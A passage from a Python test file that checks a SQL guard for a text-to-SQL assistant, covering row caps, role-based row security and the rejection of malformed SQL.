        "SELECT p.product_line, string_agg(DISTINCT p.product_name, ',' ORDER BY "
        "p.product_name) AS names FROM products p GROUP BY 1 ORDER BY 1",
        "string-agg",
    ),
    legit(
        "-- revenue of the year\nSELECT sum(amount) AS revenue /* lines */ FROM order_lines;",
        "comments-and-trailing-semicolon",
    ),
    legit("SELECT order_id, status FROM orders WHERE channel = '电商'", "no-order-no-limit", False),
]


def test_there_are_at_least_30_legitimate_statements():
    ids = [p.id for p in LEGITIMATE]
    assert len(LEGITIMATE) >= 30
    assert len(set(ids)) == len(ids)


def _normal(rows: list[tuple]) -> list[tuple]:
    """Rows with floats rounded (window sums may add in another order)."""
    out = []
    for row in rows:
        out.append(
            tuple(
                round(float(v), 6) if isinstance(v, float | Decimal) and v is not None else v
                for v in row
            )
        )
    return out


def _own_limit(sql: str) -> int | None:
    import sqlglot

    limit = sqlglot.parse_one(sql.strip().rstrip(";"), read="duckdb").args.get("limit")
    return int(limit.expression.this) if isinstance(limit, exp.Limit) else None


@pytest.mark.parametrize(("sql", "ordered"), LEGITIMATE)
def test_legitimate_select_passes_runs_and_is_capped(sql, ordered, schema, raw, secured):
    guarded = guard_sql(sql, TABLES, max_rows=CAP, schema=schema)
    own = _own_limit(sql)
    limit = guarded.args["limit"]
    assert isinstance(limit, exp.Limit)
    assert int(limit.expression.this) == (min(own, CAP) if own is not None else CAP)
    if " ORDER BY " in sql.upper():
        assert guarded.args.get("order") is not None, "the ORDER BY must be kept"

    got = _normal(secured.execute(sql).rows)
    expected = _normal(raw.execute(sql).rows)
    assert len(got) == min(len(expected), CAP)
    if ordered:
        assert got == expected[:CAP]
    elif len(expected) <= CAP:
        assert sorted(got, key=repr) == sorted(expected, key=repr)
    else:
        assert set(got) <= set(expected)


def test_the_cap_applies_to_a_query_without_limit(raw):
    capped = SecuredEngine(raw, MODEL, max_rows=7).execute(
        "SELECT order_id FROM orders ORDER BY order_id DESC"
    )
    assert [r[0] for r in capped.rows] == sorted(
        [r[0] for r in raw.execute("SELECT order_id FROM orders").rows], reverse=True
    )[:7]


@pytest.mark.parametrize(
    "role", ["east_manager", "sales_dept", "auditor", "cfo", "finance_manager", "ar_manager"]
)
@pytest.mark.parametrize(("sql", "ordered"), LEGITIMATE[:: max(1, len(LEGITIMATE) // 10)])
def test_legitimate_select_runs_for_every_role(sql, ordered, role, raw):
    """Row security rewrites every table into a view: the query must still run."""
    result = SecuredEngine(raw, MODEL, role=role, max_rows=CAP).execute(sql)
    assert len(result.rows) <= CAP


# --- SQL the tokenizer cannot read ---------------------------------------------------------------


@pytest.mark.parametrize(
    "sql",
    [
        pytest.param("'", id="lone-quote"),
        pytest.param('"', id="lone-double-quote"),
        pytest.param("SELECT 'abc", id="unterminated-string"),
        pytest.param("SELECT 1 /*", id="unterminated-comment"),
        pytest.param("$$", id="dollar-quote"),
    ],
)
def test_sql_that_cannot_be_tokenized_is_rejected(sql, schema):
    """The guard's promise is `SQLRejected` for anything it will not run, not a parser error."""
    with pytest.raises(SQLRejected):
        guard_sql(sql, TABLES, max_rows=CAP, schema=schema)


def test_llm_sql_that_cannot_be_tokenized_is_an_answer_not_an_exception(demo_db, tmp_path):
    import json

    from langchain_core.language_models.fake_chat_models import FakeListChatModel

    from assistant.api import Assistant
    from assistant.settings import Settings

    bad = "SELECT region_name FROM regions WHERE region_name = '华东"
    chat = FakeListChatModel(responses=[json.dumps({"unanswerable": "x"}), bad, bad, bad])
    assistant = Assistant(
        MODEL, DuckDBEngine(demo_db), llm=chat, settings=Settings(cache_dir=tmp_path)
    )
    answer = assistant.ask("列出所有区域名称清单")
    assert answer.status in ("clarify", "refused", "error")
    assert answer.message and not answer.rows
